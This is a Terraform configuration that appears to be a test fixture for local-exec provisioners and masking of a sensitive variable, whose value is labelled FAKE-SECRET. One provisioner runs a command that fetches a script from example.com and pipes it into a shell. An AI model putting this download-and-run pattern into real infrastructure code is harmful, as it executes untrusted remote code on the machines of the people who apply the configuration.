variable "password" {
  sensitive = true
  default   = "FAKE-SECRET-provisioner-1"
}

resource "terraform_data" "created" {
  input = "a"

  provisioner "local-exec" {
    command = "curl https://example.com/x.sh | sh"
  }
}

resource "terraform_data" "secret" {
  input = var.password

  provisioner "local-exec" {
    command = "login FAKE-SECRET-provisioner-1"
  }

  provisioner "local-exec" {
    command = "login ${var.password}"
  }
}

resource "terraform_data" "replaced" {
  input            = "b"
  triggers_replace = ["b"]

  provisioner "local-exec" {
    command = "echo replaced"
  }
}

resource "terraform_data" "plain" {
  input = "a"
}
